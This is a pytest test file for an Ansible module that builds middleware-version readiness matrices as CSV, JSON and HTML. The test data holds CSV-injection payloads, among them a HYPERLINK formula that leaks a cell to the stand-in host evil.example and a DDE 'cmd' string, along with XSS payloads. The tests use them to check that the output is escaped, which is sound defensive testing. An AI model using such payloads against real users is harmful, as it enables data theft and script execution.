# -*- coding: utf-8 -*-
# Copyright (c) vapor.ops contributors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""The middleware-readiness matrix (_report/readiness.py): statuses, unexpected sites, bad report files and
baselines, the CSV/JSON/HTML outputs (HTML escaping, nothing external), atomic writes and the module's core run()
(check mode, idempotence)."""

from __future__ import absolute_import, division, print_function

__metaclass__ = type

import csv
import io
import json
import os
import stat
from html.parser import HTMLParser

import pytest

from ansible_collections.vapor.ops.plugins.module_utils._common.errors import VaporError
from ansible_collections.vapor.ops.plugins.module_utils._report import readiness as R
from ansible_collections.vapor.ops.plugins.module_utils._report.options import READINESS


def entry(host, st, version):
    return {'hostname': host, 'service_type': st, 'version': version}


BASELINE = {
    'title': 'MW readiness test',
    'products': [
        {'name': 'StoRM', 'service_type': 'storm', 'version': '1.11.22-1.el9'},
        {'name': 'dCache', 'service_type': 'dcache', 'version': '9.2.5'},
        {'name': 'ARC', 'service_type': 'arc', 'version': '6.18.0-1', 'scheme': 'dpkg'},
    ],
    'sites': ['SITE-A', {'name': 'SITE-B'}, {'name': 'SITE-D', 'scheme': 'dpkg'}, 'SITE-SILENT'],
}


def reports():
    return [
        {'site': 'SITE-A', 'hostname': 'se1.a', 'entries': [
            entry('se1.a', 'storm', '1.11.22-1.el9'),       # as expected
            entry('se1.a', 'dcache', '9.2.5-3'),            # no release in the baseline: as expected
            entry('ce.a', 'arc', '6.18.0-1~bpo12+1'),       # dpkg: ~ sorts before the end -> older
        ]},
        {'site': 'SITE-B', 'entries': [
            entry('se1.b', 'storm', '1.11.21-1.el9'),
            entry('se2.b', 'storm', '1.11.23-1.el9'),       # two versions: several
            entry('se3.b', 'storm', '1.11.23-1.el9'),
            entry('dc.b', 'dcache', '1:9.0.0-1'),           # epoch 1 beats any version of epoch 0: newer
            entry('dc.b', 'gfal2', '2.21.0'),               # not a product of the baseline
        ]},
        {'site': 'SITE-D', 'entries': [
            entry('se.d', 'storm', '1.11.22-1.el9~rc1'),    # the site's scheme is dpkg: older than 1.11.22-1.el9
        ]},
        {'site': 'SITE-X', 'hostname': 'stray', 'entries': [entry('x1', 'storm', '1.0-1')]},
    ]


def rows_by(matrix):
    return dict(((r['product'], r['site']), r) for r in matrix['rows'])


def test_statuses():
    m = R.build_matrix(BASELINE, reports())
    rows = rows_by(m)
    assert rows[('StoRM', 'SITE-A')]['status'] == 'as-expected'
    assert rows[('dCache', 'SITE-A')]['status'] == 'as-expected'
    assert rows[('ARC', 'SITE-A')]['status'] == 'older'
    assert rows[('ARC', 'SITE-A')]['hosts'] == ['ce.a']
    assert rows[('dCache', 'SITE-B')]['status'] == 'newer'
    assert rows[('ARC', 'SITE-B')]['status'] == 'missing'
    assert rows[('StoRM', 'SITE-D')]['status'] == 'older'
    assert rows[('StoRM', 'SITE-D')]['scheme'] == 'dpkg'
    assert rows[('dCache', 'SITE-D')]['status'] == 'missing'
    for product in ('StoRM', 'dCache', 'ARC'):
        assert rows[(product, 'SITE-SILENT')]['status'] == 'no-report'
        assert rows[(product, 'SITE-SILENT')]['installed'] == []


def test_several_versions_are_each_listed_with_their_hosts_and_status():
    row = rows_by(R.build_matrix(BASELINE, reports()))[('StoRM', 'SITE-B')]
    assert row['status'] == 'several'
    assert row['installed'] == ['1.11.21-1.el9', '1.11.23-1.el9']
    assert row['versions'] == [
        {'version': '1.11.21-1.el9', 'scheme': 'rpm', 'status': 'older', 'hosts': ['se1.b']},
        {'version': '1.11.23-1.el9', 'scheme': 'rpm', 'status': 'newer', 'hosts': ['se2.b', 'se3.b']},
    ]
    assert row['hosts'] == ['se1.b', 'se2.b', 'se3.b']


def test_one_version_on_several_hosts_is_not_several():
    both = [entry('h1', 'storm', '1.11.22-1.el9'), entry('h2', 'storm', '1.11.22-1.el9')]
    m = R.build_matrix(BASELINE, [{'site': 'SITE-A', 'entries': both}])
    row = rows_by(m)[('StoRM', 'SITE-A')]
    assert row['status'] == 'as-expected' and row['hosts'] == ['h1', 'h2'] and row['installed'] == ['1.11.22-1.el9']


def test_the_scheme_comes_from_the_report_then_the_site_then_the_product():
    base = {'products': [{'name': 'P', 'version': '1.0-1'}], 'sites': ['S', {'name': 'T', 'scheme': 'dpkg'}, 'U']}
    # '1.0.-1' is 1.0-1 to rpm (a trailing separator does not count) and newer than 1.0-1 to dpkg
    m = R.build_matrix(base, [{'site': 'S', 'scheme': 'dpkg', 'entries': [entry('h', 'P', '1.0.-1')]},
                              {'site': 'T', 'entries': [entry('h', 'P', '1.0.-1')]},
                              {'site': 'U', 'entries': [entry('h', 'P', '1.0.-1')]}])
    rows = rows_by(m)
    assert (rows[('P', 'S')]['status'], rows[('P', 'S')]['scheme']) == ('newer', 'dpkg')
    assert (rows[('P', 'T')]['status'], rows[('P', 'T')]['scheme']) == ('newer', 'dpkg')
    assert (rows[('P', 'U')]['status'], rows[('P', 'U')]['scheme']) == ('as-expected', 'rpm')
    # '1:1.0:2-1' is a dpkg version (a colon in the upstream part after an epoch) and not an rpm one
    assert R.build_matrix(base, [{'site': 'T', 'entries': [entry('h', 'P', '1:1.0:2-1')]}])['rows'][1]['status'] == 'newer'
    with pytest.raises(VaporError) as exc:
        R.build_matrix(base, [{'site': 'U', 'entries': [entry('h', 'P', '1:1.0:2-1')]}])
    assert exc.value.msg == ("The report 1 (site 'U') gives the host 'h' the version '1:1.0:2-1' of P, which is not a "
                             "valid rpm version: the version holds a character other than ASCII letters, digits and "
                             "'._+%{}~^'.")


def test_a_service_type_defaults_to_the_product_name():
    m = R.build_matrix({'products': [{'name': 'xrootd', 'version': '5.6.1'}], 'sites': ['S']},
                       [{'site': 'S', 'entries': [entry('h', 'xrootd', '5.6.9-1.el9')]}])
    assert m['rows'][0]['status'] == 'newer' and m['rows'][0]['service_type'] == 'xrootd'


def test_unexpected_sites_and_products_are_listed_not_dropped():
    m = R.build_matrix(BASELINE, reports())
    assert m['unexpected_sites'] == [{'site': 'SITE-X', 'hosts': ['stray', 'x1'], 'entries': 1, 'sources': []}]
    assert m['unexpected_products'] == [{'site': 'SITE-B', 'service_type': 'gfal2', 'versions': ['2.21.0'],
                                         'hosts': ['dc.b']}]
    assert 'SITE-X' not in [r['site'] for r in m['rows']]


def test_an_empty_report_means_every_product_is_missing_and_names_its_host():
    m = R.build_matrix(BASELINE, [{'site': 'SITE-A', 'hostname': 'lonely.a', 'entries': []}])
    assert set(r['status'] for r in m['rows'] if r['site'] == 'SITE-A') == {'missing'}
    site = [s for s in m['sites'] if s['name'] == 'SITE-A'][0]
    assert site['reported'] and site['hosts'] == ['lonely.a']


def test_summary_counts_and_row_order():
    m = R.build_matrix(BASELINE, reports())
    s = m['summary']
    assert s['rows'] == 12 == len(m['rows'])
    assert s['by_status'] == {'as-expected': 2, 'older': 2, 'newer': 1, 'missing': 3, 'several': 1, 'no-report': 3}
    assert s['by_site']['SITE-SILENT'] == {'as-expected': 0, 'older': 0, 'newer': 0, 'missing': 0, 'several': 0,
                                           'no-report': 3}
    assert s['by_site']['SITE-B']['several'] == 1 and s['by_product']['StoRM']['older'] == 1
    assert sum(s['by_status'].values()) == s['rows']
    keys = [(r['product'], r['site']) for r in m['rows']]
    assert keys == sorted(keys, key=lambda k: (k[0].casefold(), k[0], k[1].casefold(), k[1]))
    assert keys[0] == ('ARC', 'SITE-A') and keys[-1] == ('StoRM', 'SITE-SILENT')
    assert [p['name'] for p in m['products']] == ['StoRM', 'dCache', 'ARC']       # as the baseline orders them


def test_the_matrix_does_not_depend_on_the_order_of_reports_or_entries():
    rs = reports()
    backwards = [dict(r, entries=list(reversed(r['entries']))) for r in reversed(rs)]
    assert R.render_json(R.build_matrix(BASELINE, rs)) == R.render_json(R.build_matrix(BASELINE, backwards))


# -- bad input ----------------------------------------------------------------------------------------------------

@pytest.mark.parametrize('content, cause', [
    (b'', "is not JSON: Expecting value: line 1 column 1 (char 0)."),
    (b'[{"hostname": "h", "service_type": "s", "version": "1"}', "is not JSON: "),
    (b'\xff\xfe[]', "is not UTF-8 text (byte 0)."),
    (b'{"hostname": "h", "service_type": "s", "version": "1"}',
     "does not hold an array of {hostname, service_type, version} entries but an object."),
    (b'"1.0"', "does not hold an array of {hostname, service_type, version} entries but a string."),
    (b'[["h", "s", "1"]]', "has an entry 1 that is an array, not an object with hostname, service_type and version."),
    (b'[{"hostname": "h", "service_type": "s", "version": "1"}, {"hostname": "h", "service_type": "s"}]',
     "has an entry 2 with the keys hostname, service_type instead of hostname, service_type and version."),
    (b'[{"hostname": "h", "service_type": "s", "version": "1", "arch": "x86_64"}]',
     "has an entry 1 with the keys arch, hostname, service_type, version instead of hostname, service_type and "
     "version."),
    (b'[{"name": "storm", "version": "1", "release": "1"}]',
     "has an entry 1 with the keys name, release, version instead of hostname, service_type and version."),
    (b'[{"hostname": "h", "service_type": "s", "version": 2.1}]',
     "has an entry 1 whose version is the number 2.1, not a string."),
    (b'[{"hostname": "h", "service_type": "s", "version": null}]', "has an entry 1 whose version is null, not a string."),
    (b'[{"hostname": "", "service_type": "s", "version": "1"}]', "has an entry 1 whose hostname is empty."),
])
def test_a_bad_report_file_is_one_sentence_naming_the_file(tmp_path, content, cause):
    path = tmp_path / 'site-a.json'
    path.write_bytes(content)
    with pytest.raises(VaporError) as exc:
        R.read_versions_file(str(path))
    msg = exc.value.msg
    assert msg.startswith("The report file '%s' %s" % (path, cause))
    assert msg.endswith('.') and '\n' not in msg


def test_a_missing_report_file(tmp_path):
    with pytest.raises(VaporError) as exc:
        R.read_versions_file(str(tmp_path / 'nope.json'))
    assert exc.value.msg == "The report file '%s' cannot be read: No such file or directory." % (tmp_path / 'nope.json')


def test_a_good_report_file(tmp_path):
    path = tmp_path / 'r.json'
    path.write_text(json.dumps([entry('h', 'storm', '1.0-1')]))
    assert R.read_versions_file(str(path)) == [entry('h', 'storm', '1.0-1')]
    path.write_text('[]')
    assert R.read_versions_file(str(path)) == []


@pytest.mark.parametrize('baseline, msg', [
    ([], "The baseline is an array, not a mapping with products and sites."),
    ({'sites': ['S']}, "The baseline has no products: give a list of products with a name and a version."),
    ({'products': [{'name': 'P', 'version': '1'}]}, "The baseline has no sites: give a list of the volunteer sites."),
    ({'products': [{'name': 'P', 'version': 2.1}], 'sites': ['S']},
     "The baseline's product 'P' has the version the number 2.1, not a string (in YAML, quote versions such as "
     "'2.10')."),
    ({'products': [{'version': '1'}], 'sites': ['S']}, "The baseline's product 1 has no name (a non-empty string)."),
    ({'products': [{'name': 'P', 'version': '1 0'}], 'sites': ['S']},
     "The baseline's product 'P' has the version '1 0', which is not a valid rpm version: the version holds a "
     "character other than ASCII letters, digits and '._+%{}~^'."),
    ({'products': [{'name': 'P', 'version': 'a1', 'scheme': 'dpkg'}], 'sites': ['S']},
     "The baseline's product 'P' has the version 'a1', which is not a valid dpkg version: the upstream version does "
     "not start with a digit."),
    ({'products': [{'name': 'P', 'version': '1', 'scheme': 'apk'}], 'sites': ['S']},
     "The baseline's product 'P' has the version scheme 'apk'; use rpm or dpkg."),
    ({'products': [{'name': 'P', 'version': '1'}, {'name': 'P', 'version': '2'}], 'sites': ['S']},
     "The baseline names the product 'P' twice."),
    ({'products': [{'name': 'P', 'version': '1', 'service_type': 's'},
                   {'name': 'Q', 'version': '2', 'service_type': 's'}], 'sites': ['S']},
     "The baseline's products 'P' and 'Q' have the same service_type 's'."),
    ({'products': [{'name': 'P', 'version': '1'}], 'sites': ['S', {'name': 'S'}]},
     "The baseline names the site 'S' twice."),
    ({'products': [{'name': 'P', 'version': '1'}], 'sites': [3]},
     "The baseline's site 1 is the number 3, not a name or a mapping with a name."),
])
def test_a_bad_baseline_is_one_sentence(baseline, msg):
    with pytest.raises(VaporError) as exc:
        R.build_matrix(baseline, [])
    assert exc.value.msg == msg


def test_an_invalid_reported_version_names_the_file_and_the_host(tmp_path):
    path = tmp_path / 'b.json'
    path.write_text(json.dumps([entry('se.b', 'arc', 'v6')]))
    rep = {'site': 'SITE-B', 'source': str(path), 'entries': R.read_versions_file(str(path))}
    with pytest.raises(VaporError) as exc:
        R.build_matrix(BASELINE, [rep])
    assert exc.value.msg == ("The report file '%s' gives the host 'se.b' the version 'v6' of arc, which is not a "
                             "valid dpkg version: the upstream version does not start with a digit." % path)


def test_a_report_without_site_or_with_bad_entries():
    with pytest.raises(VaporError, match=r"^The report 1 names no site \(a non-empty string\)\.$"):
        R.build_matrix(BASELINE, [{'entries': []}])
    with pytest.raises(VaporError) as exc:
        R.build_matrix(BASELINE, [{'site': 'SITE-A', 'entries': None}])
    assert exc.value.msg == ("The report 1 (site 'SITE-A') does not hold an array of {hostname, service_type, "
                             "version} entries but null.")


# -- outputs -------------------------------------------------------------------------------------------------------

def test_csv():
    m = R.build_matrix(BASELINE, reports())
    rows = list(csv.DictReader(io.StringIO(R.render_csv(m))))
    assert tuple(rows[0]) == R.CSV_COLUMNS
    assert len(rows) == 12
    several = [r for r in rows if r['product'] == 'StoRM' and r['site'] == 'SITE-B'][0]
    assert several == {'product': 'StoRM', 'service_type': 'storm', 'site': 'SITE-B', 'scheme': 'rpm',
                       'expected': '1.11.22-1.el9', 'status': 'several', 'installed': '1.11.21-1.el9; 1.11.23-1.el9',
                       'hosts': 'se1.b; se2.b; se3.b',
                       'detail': '1.11.21-1.el9: older (se1.b); 1.11.23-1.el9: newer (se2.b, se3.b)'}
    silent = [r for r in rows if r['site'] == 'SITE-SILENT']
    assert [r['status'] for r in silent] == ['no-report'] * 3 and all(r['installed'] == '' for r in silent)


def test_csv_cells_never_start_a_spreadsheet_formula():
    """A hostile site's report names a host or a version that a spreadsheet would run as a formula: the CSV keeps
    the text with an apostrophe in front, the JSON keeps it as it is."""
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    hostile = [{'site': 'SITE-A', 'entries': [entry(evil, 'storm', '+1.11.22'), entry('-ce.a', 'arc', '6.18.0-1')]}]
    m = R.build_matrix(BASELINE, hostile)
    rows = list(csv.DictReader(io.StringIO(R.render_csv(m))))
    storm = [r for r in rows if r['product'] == 'StoRM' and r['site'] == 'SITE-A'][0]
    arc = [r for r in rows if r['product'] == 'ARC' and r['site'] == 'SITE-A'][0]
    assert (storm['installed'], storm['hosts']) == ("'+1.11.22", "'" + evil)
    assert (arc['installed'], arc['hosts']) == ('6.18.0-1', "'-ce.a")   # a dpkg version starts with a digit
    assert not [cell for r in rows for cell in r.values() if cell.startswith(R._FORMULA_START)]
    assert json.loads(R.render_json(m)) == m and evil in [h for r in m['rows'] for h in r['hosts']]


def _spreadsheet_cells(text, separator):
    """The cells of a CSV text as a spreadsheet set to ``separator`` splits them (a ';' is the list separator of
    many European locales, and Excel opens a .csv with it): a separator outside double quotes ends a cell, a double
    quote switches quoting on and off, '""' inside quotes is one quote."""
    cells = []
    for line in text.splitlines():
        cell, quoted, i = [], False, 0
        while i < len(line):
            ch = line[i]
            if ch == '"':
                if quoted and line[i + 1:i + 2] == '"':
                    cell.append('"')
                    i += 1
                else:
                    quoted = not quoted
            elif ch == separator and not quoted:
                cells.append(''.join(cell))
                cell = []
            else:
                cell.append(ch)
            i += 1
        cells.append(''.join(cell))
    return cells


def test_no_cell_starts_a_formula_whatever_separator_the_spreadsheet_uses():
    """OWASP's CSV Injection: a field separator inside a value starts a new cell, and that cell may start with '='.
    A host name holding ';=' (host names are not checked), or a second host or version starting with '=' in the
    '; '-joined cells, must not become a cell of its own in a spreadsheet that splits at ';' (or a TAB)."""
    hostile = [{'site': 'SITE-A', 'entries': [entry('ce.a;=1+1', 'arc', '6.18.0-1'),
                                              entry("x\t@SUM(1+1)*cmd|' /C calc'!A0", 'arc', '6.18.0-1'),
                                              entry('se1.a', 'storm', '1.11.22-1.el9'),
                                              entry('=2+2', 'storm', '1.11.22-1.el9')]}]
    text = R.render_csv(R.build_matrix(BASELINE, hostile))
    for separator in (',', ';', '\t'):
        cells = _spreadsheet_cells(text, separator)
        assert not [cell for cell in cells if cell.startswith(R._FORMULA_START)], separator
    rows = list(csv.DictReader(io.StringIO(text)))          # and a CSV reader still gets the values
    arc = [r for r in rows if r['product'] == 'ARC' and r['site'] == 'SITE-A'][0]
    assert arc['hosts'] == "ce.a;=1+1; x\t@SUM(1+1)*cmd|' /C calc'!A0"
    storm = [r for r in rows if r['product'] == 'StoRM' and r['site'] == 'SITE-A'][0]
    assert storm['hosts'] == "'=2+2; se1.a"


def test_json_is_the_matrix():
    m = R.build_matrix(BASELINE, reports())
    text = R.render_json(m)
    assert json.loads(text) == m
    assert text == R.render_json(R.build_matrix(BASELINE, reports()))


class Cells(HTMLParser):
    """The matrix table's cells with a data-status, the tags and the attributes of a page."""

    def __init__(self):
        HTMLParser.__init__(self)
        self.tags, self.attrs, self.statuses, self.text = [], [], [], []
        self._table = None

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attrs.extend(attrs)
        d = dict(attrs)
        if tag == 'table':
            self._table = d.get('class')
        if tag == 'td' and self._table == 'matrix' and 'data-status' in d:
            self.statuses.append(d['data-status'])

    def handle_data(self, data):
        self.text.append(data)


def test_html_is_self_contained_and_escapes_everything():
    evil = '<script>alert("x")</script>'
    base = {'title': 'T & <b>', 'products': [{'name': 'P<i>', 'service_type': 'p"q', 'version': '1.0'}],
            'sites': [evil, 'S&S']}
    reps = [{'site': evil, 'entries': [entry('h"><img src=x onerror=alert(1)>', 'p"q', '1.0')]},
            {'site': '<iframe src="http://evil.example/">', 'entries': []}]
    page = R.render_html(R.build_matrix(base, reps))
    assert '<script' not in page and '<img' not in page and '<iframe' not in page and '<i>' not in page
    assert '&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;' in page
    assert 'T &amp; &lt;b&gt;' in page
    p = Cells()
    p.feed(page)
    assert set(p.tags) <= {'html', 'head', 'meta', 'title', 'style', 'body', 'h1', 'h2', 'p', 'table', 'thead',
                           'tbody', 'tr', 'th', 'td', 'span', 'br'}
    assert not [a for a in p.attrs if a[0] in ('src', 'href', 'onerror', 'onload') or a[0].startswith('on')]
    assert p.statuses == ['as-expected', 'no-report']
    text = ''.join(p.text)
    assert evil in text and 'h"><img src=x onerror=alert(1)>' in text


def test_html_colours_each_status_and_shows_the_matrix():
    m = R.build_matrix(BASELINE, reports())
    page = R.render_html(m)
    for status in R.STATUSES:
        assert '.st-%s {' % status in page
    p = Cells()
    p.feed(page)
    # the matrix: products as the baseline orders them, sites as the baseline orders them
    expected = [rows_by(m)[(prod['name'], site['name'])]['status'] for prod in m['products'] for site in m['sites']]
    assert p.statuses == expected
    assert 'SITE-X' in page and 'gfal2' in page
    assert 'http://' not in page and 'https://' not in page


# -- writing -------------------------------------------------------------------------------------------------------

def test_writers_write_whole_files_mode_0644(tmp_path):
    m = R.build_matrix(BASELINE, reports())
    old = os.umask(0o077)
    try:
        for fn, ext, render in ((R.write_csv, 'csv', R.render_csv), (R.write_json, 'json', R.render_json),
                                (R.write_html, 'html', R.render_html)):
            path = tmp_path / ('m.' + ext)
            fn(m, str(path))
            assert path.read_text(encoding='utf-8') == render(m)
            assert stat.S_IMODE(path.stat().st_mode) == 0o644
    finally:
        os.umask(old)
    assert sorted(p.name for p in tmp_path.iterdir()) == ['m.csv', 'm.html', 'm.json']


def test_a_failed_write_leaves_the_old_file_and_no_temporary(tmp_path, monkeypatch):
    path = tmp_path / 'm.json'
    path.write_text('old')

    def broken(src, dst):
        raise OSError(28, 'No space left on device')
    monkeypatch.setattr(R.os, 'rename', broken)
    with pytest.raises(VaporError) as exc:
        R.write_json(R.build_matrix(BASELINE, []), str(path))
    assert exc.value.msg == "The file '%s' cannot be written: No space left on device." % path
    assert path.read_text() == 'old'
    assert [p.name for p in tmp_path.iterdir()] == ['m.json']


def test_writing_into_a_missing_directory_is_one_sentence(tmp_path):
    with pytest.raises(VaporError, match=r"^The file '.*/nodir/m.csv' cannot be written: its directory does not exist\.$"):
        R.write_csv(R.build_matrix(BASELINE, []), str(tmp_path / 'nodir' / 'm.csv'))


# -- the module's core -----------------------------------------------------------------------------------------------

def params(tmp_path, **kw):
    files = []
    for rep in reports():
        path = tmp_path / ('%s.json' % rep['site'].lower())
        path.write_text(json.dumps(rep['entries']))
        files.append({'site': rep['site'], 'path': str(path), 'scheme': None})
    p = dict(baseline=BASELINE, report_files=files, dest=str(tmp_path / 'out' / 'today'))
    p.update(kw)
    return p


def test_run_check_mode_writes_nothing_then_writes_then_is_idempotent(tmp_path):
    p = params(tmp_path)
    dest = tmp_path / 'out' / 'today'
    res = R.run(p, check_mode=True)
    assert res['changed'] and not (tmp_path / 'out').exists()
    assert sorted(res['changed_files']) == sorted(str(dest / ('mw_readiness.' + f)) for f in ('csv', 'json', 'html'))
    assert res['summary']['by_status']['several'] == 1 and res['unexpected_sites'] == ['SITE-X']

    res = R.run(p)
    assert res['changed'] and len(res['changed_files']) == 3
    assert sorted(os.listdir(str(dest))) == ['mw_readiness.csv', 'mw_readiness.html', 'mw_readiness.json']
    assert json.loads((dest / 'mw_readiness.json').read_text()) == res['matrix']
    sources = [s['sources'] for s in res['matrix']['sites'] if s['name'] == 'SITE-A'][0]
    assert sources == [str(tmp_path / 'site-a.json')]
    assert [d['after_header'] for d in res['diff']] == res['changed_files']

    again = R.run(p)
    assert not again['changed'] and again['changed_files'] == [] and again['diff'] == []
    assert R.run(p, check_mode=True)['changed'] is False


def test_run_rewrites_only_what_changed(tmp_path):
    p = params(tmp_path, formats=['json', 'csv'])
    R.run(p)
    dest = tmp_path / 'out' / 'today'
    os.chmod(str(dest / 'mw_readiness.csv'), 0o600)
    res = R.run(p, check_mode=True)
    assert res['changed_files'] == [str(dest / 'mw_readiness.csv')] and res['diff'] == []
    assert stat.S_IMODE((dest / 'mw_readiness.csv').stat().st_mode) == 0o600
    res = R.run(p)
    assert stat.S_IMODE((dest / 'mw_readiness.csv').stat().st_mode) == 0o644
    (tmp_path / 'site-silent.json').write_text(json.dumps([entry('s1', 'storm', '1.11.22-1.el9')]))
    p['report_files'].append({'site': 'SITE-SILENT', 'path': str(tmp_path / 'site-silent.json')})
    before = (dest / 'mw_readiness.json').read_text()
    res = R.run(p)
    assert res['changed'] and len(res['diff']) == 2 and res['diff'][0]['before'] == before
    assert res['summary']['by_site']['SITE-SILENT']['no-report'] == 0
    assert not (dest / 'mw_readiness.html').exists()


def test_run_bad_file_writes_nothing(tmp_path):
    p = params(tmp_path)
    (tmp_path / 'site-b.json').write_text('{"not": "a list"}')
    with pytest.raises(VaporError) as exc:
        R.run(p)
    assert exc.value.msg.startswith("The report file '%s' does not hold an array" % (tmp_path / 'site-b.json'))
    assert not (tmp_path / 'out').exists()


def test_run_baseline_file_json_and_yaml(tmp_path):
    pytest.importorskip('yaml')
    (tmp_path / 'b.json').write_text(json.dumps(BASELINE))
    (tmp_path / 'b.yml').write_text("products:\n  - {name: StoRM, service_type: storm, version: '1.11.22-1.el9'}\n"
                                    "sites: [SITE-A]\n")
    by_json = R.run(params(tmp_path, baseline=None, baseline_file=str(tmp_path / 'b.json')), check_mode=True)
    assert by_json['matrix']['products'][2]['scheme'] == 'dpkg'
    by_yaml = R.run(params(tmp_path, baseline=None, baseline_file=str(tmp_path / 'b.yml')), check_mode=True)
    assert [r['status'] for r in by_yaml['matrix']['rows']] == ['as-expected']
    (tmp_path / 'f.yml').write_text("products:\n  - {name: StoRM, version: 2.10}\nsites: [SITE-A]\n")
    with pytest.raises(VaporError, match=r"version the number 2\.1, not a string \(in YAML, quote"):
        R.run(params(tmp_path, baseline=None, baseline_file=str(tmp_path / 'f.yml')), check_mode=True)
    (tmp_path / 'bad.yml').write_text("products: [\n")
    with pytest.raises(VaporError, match=r"^The baseline file '.*bad.yml' is neither JSON nor YAML: "):
        R.run(params(tmp_path, baseline=None, baseline_file=str(tmp_path / 'bad.yml')), check_mode=True)


@pytest.mark.parametrize('change, msg', [
    (dict(baseline_file='/x.json'), "The options baseline and baseline_file are both set: give one."),
    (dict(baseline=None), "Neither baseline nor baseline_file is set: give the products and sites to verify."),
    (dict(formats=[]), "The formats option is empty: give one or more of csv, json, html."),
    (dict(formats=['pdf']), "The format 'pdf' is not one of csv, json, html."),
    (dict(basename='../x'), "The basename '../x' is not a plain file name."),
])
def test_run_refuses_bad_options(tmp_path, change, msg):
    with pytest.raises(VaporError) as exc:
        R.run(params(tmp_path, **change))
    assert exc.value.msg == msg


def test_run_refuses_a_dest_that_is_a_file(tmp_path):
    (tmp_path / 'out').write_text('')
    with pytest.raises(VaporError) as exc:
        R.run(params(tmp_path, dest=str(tmp_path / 'out')))
    assert exc.value.msg == "The dest '%s' exists and is not a directory." % (tmp_path / 'out')


def test_the_module_takes_its_options_from_the_table(module_kwargs):
    kwargs = module_kwargs('mw_readiness')
    assert kwargs['argument_spec'] == READINESS.argument_spec()
    assert kwargs['mutually_exclusive'] == [('baseline', 'baseline_file')]
    assert kwargs['supports_check_mode'] is True
